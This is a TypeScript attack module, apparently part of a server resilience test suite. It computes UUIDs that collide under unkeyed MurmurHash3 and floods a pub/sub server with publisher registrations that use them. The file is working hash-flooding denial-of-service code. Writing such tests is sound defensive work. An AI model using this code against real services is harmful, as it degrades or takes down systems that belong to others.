// f: registIds that all have one hash, as long as the hash has no secret.

import { Buffer } from "node:buffer";
import type { Attack } from "../attack.ts";
import { publishFrame } from "../attacker/frames.ts";

// The mixing step of MurmurHash3, which can be run backwards: for any beginning of a key there is a last word with
// which the whole has the wanted hash.
const C1 = 0xcc9e2d51;
const C2 = 0x1b873593;
const ADDED = 0xe6546b64;
const WANTED = 0x12345678;
// The hash of a UUID of 16 bytes begins with this: its length times four, and its form, which is 0.
const BEGIN = 64;
const LAST_WORD_AT = 12;

/** Different UUIDs of one hash. */
export function collidingUuids(count: number): string[] {
  return Array.from({ length: count }, (_, number) => {
    const bytes = Buffer.alloc(16);
    bytes.writeUInt32LE(number, 0);
    let hash = BEGIN;
    for (let at = 0; at < LAST_WORD_AT; at += 4) hash = mixed(hash, bytes.readUInt32LE(at));
    bytes.writeUInt32LE(lastWord(hash), LAST_WORD_AT);
    return uuidOf(bytes.toString("hex"));
  });
}

function mixed(hash: number, word: number): number {
  const block = Math.imul(rotated(Math.imul(word, C1), 15), C2);
  return (Math.imul(rotated(hash ^ block, 13), 5) + ADDED) | 0;
}

/** The word that makes WANTED of this hash. */
function lastWord(hash: number): number {
  const block = rotated(Math.imul(WANTED - ADDED, inverse(5)), 32 - 13) ^ hash;
  return Math.imul(rotated(Math.imul(block, inverse(C2)), 32 - 15), inverse(C1)) >>> 0;
}

function rotated(value: number, bits: number): number {
  return (value << bits) | (value >>> (32 - bits));
}

/** Of an odd number, modulo 2^32: each step doubles the bits that are right. */
function inverse(odd: number): number {
  let found = odd;
  for (let step = 0; step < 5; step++) found = Math.imul(found, 2 - Math.imul(odd, found));
  return found;
}

function uuidOf(hex: string): string {
  return [hex.slice(0, 8), hex.slice(8, 12), hex.slice(12, 16), hex.slice(16, 20), hex.slice(20)].join("-");
}

const FRAMES_AT_ONCE = 100;

export const hashCollisions: Attack = {
  letter: "f",
  name: "hash-collisions",
  sends: "publishers of one service whose registIds have one hash under a hash without a secret",
  expected: "taken like any others",
  full: 32_768,
  short: 16_384,
  async strike(attacker) {
    const connection = await attacker.open();
    const registIds = collidingUuids(attacker.size);
    for (let at = 0; at < registIds.length && !attacker.isOver && !connection.isClosed; at += FRAMES_AT_ONCE) {
      const frames = registIds
        .slice(at, at + FRAMES_AT_ONCE)
        .map((registId, number) => publishFrame({ id: at + number, service: "attack-collisions", registId }));
      await connection.send(Buffer.concat(frames));
    }
    await attacker.answered(connection, attacker.size);
    attacker.tally.note(`${connection.answers} of ${attacker.size} answered`);
  },
};
